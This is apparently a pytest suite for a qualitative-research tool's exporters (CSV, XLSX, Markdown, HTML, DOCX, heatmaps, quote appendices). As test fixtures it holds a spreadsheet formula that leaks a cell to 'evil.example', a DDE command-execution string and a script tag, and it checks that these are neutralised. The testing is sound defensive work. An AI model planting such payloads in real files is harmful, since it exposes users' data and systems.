"""Exports: tables (CSV, XLSX, Markdown, HTML, heatmaps, the terminal), quotes
(DOCX, Markdown, HTML, CSV), spreadsheet-injection neutralising and atomic
writes. Files are read back with the libraries that read them in real life
(openpyxl, python-docx, csv)."""

from __future__ import annotations

import csv
import io
import random
import time
from pathlib import Path

import pytest

from conftest import write
from fieldnotes.analysis.table import RowHeader, Table
from fieldnotes.errors import FieldnotesError
from fieldnotes.export.quotes import CSV_HEADER, quotes, write_quotes
from fieldnotes.export.safe import escape_markdown, neutralise
from fieldnotes.output import write_atomically
from fieldnotes.cli.tables import rich_table
from fieldnotes.export.tables import sheet_name, to_xlsx, write_table, write_tables

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
SCRIPT = "<script>alert(1)</script>"


def matrix(**changes) -> Table:
    """A phase x theme matrix counted by hand: parent rows roll up children
    (Caseload and time = Caseload + Overtime, each passage once)."""
    fields = dict(
        title="Phase x theme",
        rows=[RowHeader("Caseload and time", "Caseload and time", 0),
              RowHeader("Caseload", "Caseload and time/Caseload", 1),
              RowHeader(EVIL, "Caseload and time/" + EVIL, 1),
              RowHeader("Supervision", "Supervision", 0)],
        columns=["Phase 1", "Phase 2", SCRIPT],
        values=[[5, 3, 0], [2, 1, 0], [3, 2, 0], [1, 0, 7]],
        row_totals=[8, 3, 5, 8],
        column_totals=[6, 3, 7],
        total=16,
        corner="Code",
        measure="passages",
        notes=["Pseudonymised.", "Filter: role = SW CP | team"],
    )
    fields.update(changes)
    return Table(**fields)


def framework() -> Table:
    return Table(
        title="Framework matrix", rows=[RowHeader("SW01", "SW01"), RowHeader("MGR01", "MGR01")],
        columns=["Caseload", "Supervision"],
        values=[["Twenty-eight families.\nNo time for direct work.", "-cancelled most months"], ["", "Weekly"]],
        corner="Case", measure="text")


# -- neutralising and atomic writes -------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+44 7700 900418", "-2", "@SUM(A1)", "\tx", "\rx", "  =cmd|' /C calc'!A0", EVIL])
def test_neutralise_prefixes_formula_triggers(text):
    assert neutralise(text) == "'" + text


def test_neutralise_leaves_numbers_and_plain_text():
    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5 and neutralise(None) is None
    assert neutralise("Caseload and time") == "Caseload and time"
    assert neutralise("") == "" and neutralise("a=b") == "a=b"


def test_escape_markdown():
    assert escape_markdown("a|b") == "a\\|b"
    assert escape_markdown(SCRIPT) == "\\<script\\>alert(1)\\</script\\>"
    assert escape_markdown("# not a heading") == "\\# not a heading"
    assert escape_markdown("1. not a list") == "1\\. not a list"
    assert escape_markdown("one\ntwo", cell=True) == "one<br>two"


def test_write_atomically_replaces_whole_file_and_leaves_nothing_behind(tmp_path):
    target = tmp_path / "out.csv"
    target.write_bytes(b"old contents that are longer")
    write_atomically(target, b"new")
    assert target.read_bytes() == b"new"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
    with pytest.raises(FieldnotesError, match="does not exist"):
        write_atomically(tmp_path / "missing" / "out.csv", b"x")


def test_failed_write_keeps_the_old_file(tmp_path):
    target = tmp_path / "t.png"
    target.write_bytes(b"previous")
    with pytest.raises(FieldnotesError, match="holds text"):
        write_table(framework(), target)
    assert target.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir()] == ["t.png"]


# -- tables: CSV ----------------------------------------------------------------------------


def test_csv_has_bom_labels_totals_and_neutralised_cells(tmp_path):
    out = tmp_path / "m.csv"
    write_table(matrix(), out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["Code", "Phase 1", "Phase 2", SCRIPT, "Total"]
    assert rows[1] == ["Caseload and time", "5", "3", "0", "8"]
    assert rows[2] == ["  Caseload", "2", "1", "0", "3"]
    assert rows[3] == ["'  " + EVIL, "3", "2", "0", "5"]
    assert rows[5] == ["Total", "6", "3", "7", "16"]
    assert len(rows) == 6


def test_csv_percentages_are_plain_numbers(tmp_path):
    out = tmp_path / "p.csv"
    write_table(matrix(percent=True, values=[[62.5, 100.0, 0.0], [25.0, 33.333333, 0.0], [37.5, 66.666667, 0.0],
                                             [12.5, 0.0, 100.0]], row_totals=None, column_totals=None, total=None), out)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[0][-1] == SCRIPT  # no totals column
    assert rows[2] == ["  Caseload", "25.0", "33.33", "0.0"]


# -- tables: XLSX ---------------------------------------------------------------------------


def test_xlsx_read_back(tmp_path):
    import openpyxl

    out = tmp_path / "m.xlsx"
    write_table(matrix(), out)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Phase x theme"]
    ws = book["Phase x theme"]
    assert ws["A1"].value == "Phase x theme" and ws["A1"].font.b
    assert [c.value for c in ws[2]] == ["Code", "Phase 1", "Phase 2", SCRIPT, "Total"]
    assert all(c.font.b for c in ws[2])
    assert ws.freeze_panes == "B3"
    assert [[c.value for c in row] for row in ws.iter_rows(min_row=3, max_row=7)] == [
        ["Caseload and time", 5, 3, 0, 8],
        ["Caseload", 2, 1, 0, 3],
        ["'" + EVIL, 3, 2, 0, 5],
        ["Supervision", 1, 0, 7, 8],
        ["Total", 6, 3, 7, 16],
    ]
    evil = ws["A5"]
    assert evil.data_type == "s" and evil.value.startswith("'=HYPERLINK(")
    assert ws["A4"].alignment.indent == 1 and not ws["A3"].alignment.indent
    assert ws["B3"].number_format == "#,##0" and ws["E6"].number_format == "#,##0"
    assert ws["A7"].font.b and ws["B7"].font.b and ws["E3"].font.b and not ws["B3"].font.b
    ranges = [str(cf.sqref) for cf in ws.conditional_formatting]
    assert ranges == ["B3:D6"]  # the body only: totals are not shaded
    rules = [r for cf in ws.conditional_formatting for r in cf.rules]
    assert rules[0].type == "colorScale"
    assert [c.rgb[-6:] for c in rules[0].colorScale.color] == ["FFFFFF", "5B9BD5"]
    assert ws["A9"].value == "Pseudonymised." and ws["A10"].value == "Filter: role = SW CP | team"
    assert ws.column_dimensions["A"].width > len(EVIL)


def test_xlsx_percentages_stored_as_fractions(tmp_path):
    import openpyxl

    out = tmp_path / "p.xlsx"
    write_table(matrix(percent=True, values=[[62.5, 100.0, 0.0], [25.0, 33.3, 0.0], [37.5, 66.7, 0.0], [12.5, 0.0, 100.0]],
                       row_totals=None, column_totals=None, total=None), out)
    ws = openpyxl.load_workbook(out).active
    assert ws["B3"].value == pytest.approx(0.625) and ws["B3"].number_format == "0.0%"
    assert ws["C4"].value == pytest.approx(0.333)
    assert ws.max_column == 4


def test_xlsx_decimals_and_empty_cells(tmp_path):
    import openpyxl

    out = tmp_path / "j.xlsx"
    write_table(Table("Jaccard", [RowHeader("A", "A"), RowHeader("B", "B")], ["A", "B"], [[None, 0.25], [0.25, None]],
                      measure="jaccard"), out)
    ws = openpyxl.load_workbook(out).active
    assert ws["B3"].value is None and ws["C3"].value == 0.25 and ws["C3"].number_format == "0.00"


def test_xlsx_framework_wraps_text_and_has_no_colour_scale(tmp_path):
    import openpyxl

    out = tmp_path / "f.xlsx"
    write_table(framework(), out)
    ws = openpyxl.load_workbook(out).active
    assert ws["B3"].value == "Twenty-eight families.\nNo time for direct work."
    assert ws["B3"].alignment.wrap_text
    assert ws["C3"].value == "'-cancelled most months"
    assert list(ws.conditional_formatting) == []
    assert ws.column_dimensions["B"].width >= 14


def test_xlsx_sheet_per_table_with_safe_unique_names(tmp_path):
    import openpyxl

    long = "Code x attribute: phase / role [all coders] over every document"
    out = tmp_path / "all.xlsx"
    write_tables([matrix(title=long), matrix(title=long), framework(), matrix(title="History")], out)
    names = openpyxl.load_workbook(out).sheetnames
    assert len(names) == 4 and len({n.casefold() for n in names}) == 4
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in names)
    assert names[:3] == ["Code x attribute phase role all", "Code x attribute phase role (2)", "Framework matrix"]
    assert names[3] == "History table"  # "History" is reserved by Excel
    assert openpyxl.load_workbook(out)[names[0]]["A1"].value == long  # the full title stays in row 1
    with pytest.raises(FieldnotesError, match=".xlsx"):
        write_tables([matrix()], tmp_path / "all.csv")


def test_sheet_name_rules():
    taken: set[str] = set()
    assert sheet_name("'Quoted'", taken) == "Quoted"
    assert sheet_name("quoted", taken) == "quoted (2)"
    assert sheet_name("", taken) == "Table"
    assert len(sheet_name("x" * 40, taken)) == 31


def test_xlsx_200_by_50_is_fast(tmp_path):
    """The benchmark (benchmarks/bench_matrix.py) holds the budget; this only
    prints the figure."""
    import openpyxl

    rng = random.Random(6)
    big = Table("Big matrix", [RowHeader(f"Code {i}", f"c{i}", i % 3) for i in range(200)], [f"Document {j}" for j in range(50)],
                [[rng.randint(0, 400) for _ in range(50)] for _ in range(200)],
                row_totals=[0] * 200, column_totals=[0] * 50, total=0, corner="Code", measure="passages")
    to_xlsx([Table("warm", [RowHeader("a", "a")], ["b"], [[1]])])  # imports out of the timing
    started = time.perf_counter()
    write_table(big, tmp_path / "big.xlsx")
    elapsed = time.perf_counter() - started
    print(f"\nXLSX export of a 200 x 50 matrix: {elapsed:.3f} s")
    rows = list(openpyxl.load_workbook(tmp_path / "big.xlsx", read_only=True).active.iter_rows(values_only=True))
    assert len(rows) == 2 + 200 + 1 and len(rows[2]) == 1 + 50 + 1
    assert list(rows[2][1:51]) == big.values[0]


# -- tables: Markdown, HTML, pictures, terminal ----------------------------------------------


def test_markdown_table(tmp_path):
    out = tmp_path / "m.md"
    write_table(matrix(), out)
    text = out.read_text(encoding="utf-8")
    lines = text.splitlines()
    assert lines[0] == "# Phase x theme"
    assert lines[2] == "| Code | Phase 1 | Phase 2 | \\<script\\>alert(1)\\</script\\> | Total |"
    assert lines[3] == "| :--- | ---: | ---: | ---: | ---: |"
    assert lines[4] == "| Caseload and time | 5 | 3 | 0 | **8** |"
    assert lines[5] == "| \u00a0\u00a0Caseload | 2 | 1 | 0 | **3** |"
    assert lines[8] == "| **Total** | **6** | **3** | **7** | **16** |"
    assert "<script>" not in text
    assert "- Filter: role = SW CP \\| team" in lines
    percent = matrix(percent=True, values=[[62.5, 100.0, 0.0], [25.0, 33.3, 0.0], [37.5, 66.7, 0.0], [12.5, 0.0, 100.0]],
                     row_totals=None, column_totals=None, total=None)
    write_table(percent, out)
    assert "| Caseload and time | 62.5% | 100.0% | 0.0% |" in out.read_text(encoding="utf-8").splitlines()


def test_html_page_is_self_contained_escaped_and_shaded(tmp_path):
    out = tmp_path / "m.html"
    write_table(matrix(), out)
    page = out.read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>")
    assert "<script" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<link" not in page and "src=" not in page and "@import" not in page and "url(" not in page
    assert "position: sticky" in page and "<h1>Phase x theme</h1>" in page
    # the largest body value is the darkest cell, with white text; zero stays white
    assert '<td class="num" style="background:#2166ac;color:#ffffff">7</td>' in page
    assert '<td class="num" style="background:#ffffff;color:#000000">0</td>' in page
    assert '<td class="num total">16</td>' in page
    assert "&quot;Click me&quot;" in page and "Filter: role = SW CP | team" in page


def test_html_framework_keeps_line_breaks(tmp_path):
    out = tmp_path / "f.html"
    write_table(framework(), out)
    page = out.read_text(encoding="utf-8")
    assert '<td class="text">Twenty-eight families.\nNo time for direct work.</td>' in page
    assert "white-space: pre-wrap" in page


def test_heatmap_pictures(tmp_path):
    write_table(matrix(), tmp_path / "m.png")
    write_table(matrix(), tmp_path / "m.svg")
    assert (tmp_path / "m.png").read_bytes().startswith(b"\x89PNG\r\n\x1a\n")
    svg = (tmp_path / "m.svg").read_text(encoding="utf-8")
    assert svg.startswith("<?xml") and "<svg" in svg[:400] and svg.rstrip().endswith("</svg>")
    import struct

    width, height = struct.unpack(">II", (tmp_path / "m.png").read_bytes()[16:24])
    assert 600 < width < 3000 and 300 < height < 3000


def test_heatmap_of_sixty_rows_is_tall_enough(tmp_path):
    import struct

    rng = random.Random(1)
    table = Table("Sixty codes", [RowHeader(f"Code {i}", f"c{i}", i % 2) for i in range(60)],
                  [f"p{j}_int_sw0{j}" for j in range(8)], [[rng.randint(0, 30) for _ in range(8)] for _ in range(60)],
                  measure="passages")
    write_table(table, tmp_path / "s.png")
    width, height = struct.unpack(">II", (tmp_path / "s.png").read_bytes()[16:24])
    assert height / 60 >= 30  # at least 30 pixels a row: labels and values stay legible
    assert height > width


def test_format_by_option_and_unknown_extension(tmp_path):
    write_table(matrix(), tmp_path / "table.out", fmt="markdown")
    assert (tmp_path / "table.out").read_text(encoding="utf-8").startswith("# Phase x theme")
    with pytest.raises(FieldnotesError, match=r"\.csv, \.xlsx"):
        write_table(matrix(), tmp_path / "table.pdf")
    with pytest.raises(FieldnotesError, match="Unknown table format"):
        write_table(matrix(), tmp_path / "t.csv", fmt="pdf")


def test_rich_table_shades_values_and_bolds_totals():
    from rich.console import Console

    rendered = rich_table(matrix())
    console = Console(record=True, width=140, color_system="truecolor", force_terminal=True)
    console.print(rendered)
    text = console.export_text(clear=False)
    assert "Caseload and time" in text and "  Caseload" in text and EVIL in text
    assert "Total" in text and "16" in text and "Pseudonymised." in text
    # the highest value has the darkest background with white text; zero is unshaded
    ansi = console.export_text(styles=True)
    assert "48;2;8;70;140m" in ansi and "38;2;255;255;255;48;2;8;70;140m" in ansi
    assert rendered.columns[-1].style == "bold"
    assert rendered.row_count == 5


# -- quotes -----------------------------------------------------------------------------------

SW = (
    "Interviewer: How has your caseload changed this year?\n\n"
    "Anita Shah: My caseload went up to twenty-eight families.   I visited Jodie Mensah twice\n"
    "last week and still could not finish the assessment.\n\n"
    "Interviewer: And supervision?\n\n"
    "Anita Shah: Supervision with my manager is cancelled most months. Jodie Mensah said nobody was listening to her.\n"
)
MGR = (
    "Interviewer: What worries you?\n\n"
    "Manager: @home visits take most of the day, and the overtime is never paid.\n\n"
    "Interviewer: Anything else?\n\n"
    "Manager: No, that is the heart of it.\n"
)
MANIFEST = (
    "file,kind,case,phase,role,years_qualified\n"
    "sw01.txt,interview,SW01,1,SW CP,5\n"
    "mgr01.txt,interview,MGR01,2,Team manager,\n"
)


@pytest.fixture
def study(tmp_path):
    from fieldnotes.project import Project

    project = Project.create(tmp_path / "study.fnp")
    report = project.intake.import_paths([write(tmp_path / "in" / "sw01.txt", SW), write(tmp_path / "in" / "mgr01.txt", MGR)],
                                  manifest=write(tmp_path / "manifest.csv", MANIFEST))
    assert not report.failed
    for code in ("Caseload and time/Caseload", "Caseload and time/Overtime", "Management culture/Supervision"):
        project.codebook.add_code(code)

    def code(document: str, code: str, words: str) -> None:
        project.coding.apply_coding(document, code, *project.coding.find_text(document, words))

    code("sw01", "Caseload", "My caseload went up to twenty-eight families. I visited Jodie Mensah twice last week")
    code("sw01", "Caseload and time", "still could not finish the assessment.")
    code("sw01", "Supervision", "Supervision with my manager is cancelled most months. Jodie Mensah said nobody was listening to her.")
    code("mgr01", "Overtime", "@home visits take most of the day, and the overtime is never paid.")
    # A second coder on the same words: one quote, not two.
    project.coding.apply_coding("sw01", "Supervision", *project.coding.find_text("sw01", "Supervision with my manager is cancelled most months."),
                         coder="Rachel")
    project.coding.apply_coding("sw01", "Supervision", *project.coding.find_text("sw01", "Supervision with my manager is cancelled most months."))
    yield project
    project.close()


def test_quotes_grouped_by_theme_and_subtheme_in_tree_order(study):
    groups = quotes(study, pseudonymised=False)
    assert [(g.theme, g.subtheme) for g in groups] == [
        ("Caseload and time", None), ("Caseload and time", "Caseload"), ("Caseload and time", "Overtime"),
        ("Management culture", "Supervision")]
    caseload = groups[1].quotes
    assert len(caseload) == 1
    quote = caseload[0]
    assert quote.text == "My caseload went up to twenty-eight families. I visited Jodie Mensah twice last week"
    assert quote.attribution == "SW CP, 5 years qualified"
    assert quote.document == "sw01.txt" and quote.phase == "1" and quote.speaker == "Anita Shah"
    assert groups[2].quotes[0].attribution == "Team manager" and groups[2].quotes[0].phase == "2"
    supervision = groups[3].quotes
    assert [q.text for q in supervision] == [
        "Supervision with my manager is cancelled most months.",
        "Supervision with my manager is cancelled most months. Jodie Mensah said nobody was listening to her."]


def test_quotes_filters(study):
    only = quotes(study, codes=["Caseload"], pseudonymised=False)
    assert [(g.theme, g.subtheme, len(g.quotes)) for g in only] == [("Caseload and time", "Caseload", 1)]
    phase2 = quotes(study, where=[("phase", "2")], pseudonymised=False)
    assert [(g.subtheme, g.quotes[0].document) for g in phase2] == [("Overtime", "mgr01.txt")]
    rachel = quotes(study, coder="Rachel", pseudonymised=False)
    assert [(g.subtheme, [q.text for q in g.quotes]) for g in rachel] == [
        ("Supervision", ["Supervision with my manager is cancelled most months."])]
    both = quotes(study, codes=["Caseload and time", "Overtime"], pseudonymised=False)
    assert [g.subtheme for g in both] == [None, "Caseload", "Overtime"]


def docx_paragraphs(path: Path) -> list[tuple[str, str]]:
    import docx

    return [(p.style.name, p.text) for p in docx.Document(str(path)).paragraphs]


def test_docx_pseudonymised_reads_like_an_appendix(study, nlp, tmp_path):
    study.pseudonyms.detect_entities(nlp=nlp)
    study.pseudonyms.set_entity_status(None, "accepted")
    groups = quotes(study)
    out = tmp_path / "quotes.docx"
    write_quotes(groups, out, title="Appendix B: quotes", notes=["Pseudonymised: names and places are replaced."])
    paragraphs = docx_paragraphs(out)
    assert paragraphs[0] == ("Title", "Appendix B: quotes")
    headings = [(style, text) for style, text in paragraphs if style.startswith("Heading")]
    assert headings == [("Heading 1", "Caseload and time"), ("Heading 2", "Caseload"), ("Heading 2", "Overtime"),
                        ("Heading 1", "Management culture"), ("Heading 2", "Supervision")]
    quoted = [text for style, text in paragraphs if style == "Quote"]
    assert len(quoted) == 5
    first = next(t for t in quoted if t.startswith("My caseload"))
    assert first.endswith(" twice last week (SW CP, 5 years qualified)")
    assert "still could not finish the assessment. (SW CP, 5 years qualified)" in quoted
    assert "@home visits take most of the day, and the overtime is never paid. (Team manager)" in quoted
    body = "\n".join(text for _, text in paragraphs)
    for real in ("Jodie", "Mensah", "Anita", "Shah"):
        assert real not in body
    assert "[" in first  # the replacement stands where the name was
    assert "sw01.txt · phase 1" in body and "mgr01.txt · phase 2" in body

    import docx

    document = docx.Document(str(out))
    quote = next(p for p in document.paragraphs if p.style.name == "Quote")
    assert quote.runs[0].italic and quote.runs[1].italic is False
    sources = [p for p in document.paragraphs if p.text == "sw01.txt · phase 1"]
    assert sources and sources[0].runs[0].font.size.pt == 8

    # Speaker labels and the CSV go through the same replacements.
    write_quotes(groups, tmp_path / "quotes.csv", title="ignored")
    rows = list(csv.reader(io.StringIO((tmp_path / "quotes.csv").read_text(encoding="utf-8-sig"))))
    assert tuple(rows[0]) == CSV_HEADER
    speakers = {r[6] for r in rows[1:]}
    assert "Anita Shah" not in speakers and any(s.startswith("[") for s in speakers)


def test_docx_original_has_the_real_names(study, nlp, tmp_path):
    study.pseudonyms.detect_entities(nlp=nlp)
    study.pseudonyms.set_entity_status(None, "accepted")
    out = tmp_path / "original.docx"
    write_quotes(quotes(study, pseudonymised=False), out, title="Quotes (original)")
    body = "\n".join(text for _, text in docx_paragraphs(out))
    assert "I visited Jodie Mensah twice last week (SW CP, 5 years qualified)" in body


def test_quotes_markdown_html_and_csv(study, tmp_path):
    groups = quotes(study, pseudonymised=False)
    write_quotes(groups, tmp_path / "q.md", title="Quotes <draft>")
    md = (tmp_path / "q.md").read_text(encoding="utf-8")
    assert md.startswith("# Quotes \\<draft\\>\n")
    assert "## Caseload and time\n" in md and "### Overtime\n" in md and "## Management culture\n" in md
    assert "> still could not finish the assessment.\n>\n> (SW CP, 5 years qualified)\n" in md
    assert "_sw01.txt · phase 1_" in md

    write_quotes(groups, tmp_path / "q.html", title="Quotes <draft>")
    page = (tmp_path / "q.html").read_text(encoding="utf-8")
    assert "<title>Quotes &lt;draft&gt;</title>" in page and "<script" not in page and "<link" not in page
    assert "<h2>Caseload and time</h2>" in page and "<h3>Caseload</h3>" in page
    assert "<blockquote><p>still could not finish the assessment. <cite>(SW CP, 5 years qualified)</cite></p></blockquote>" in page

    write_quotes(groups, tmp_path / "q.csv", title="ignored")
    raw = (tmp_path / "q.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["theme", "sub-theme", "quote", "attribution", "document", "phase", "speaker", "note"]
    assert ["Caseload and time", "Overtime", "'@home visits take most of the day, and the overtime is never paid.",
            "Team manager", "mgr01.txt", "2", "Manager", ""] in rows
    assert ["Caseload and time", "", "still could not finish the assessment.", "SW CP, 5 years qualified",
            "sw01.txt", "1", "Anita Shah", ""] in rows
    assert len(rows) == 1 + 5

    with pytest.raises(FieldnotesError, match=".docx, .md"):
        write_quotes(groups, tmp_path / "q.pdf", title="x")


def test_quotes_without_passages(study, tmp_path):
    study.codebook.add_code("Empty theme")
    groups = quotes(study, codes=["Empty theme"])
    assert groups == []
    write_quotes(groups, tmp_path / "none.docx", title="Nothing")
    assert ("Normal", "No coded passages matched.") in docx_paragraphs(tmp_path / "none.docx")
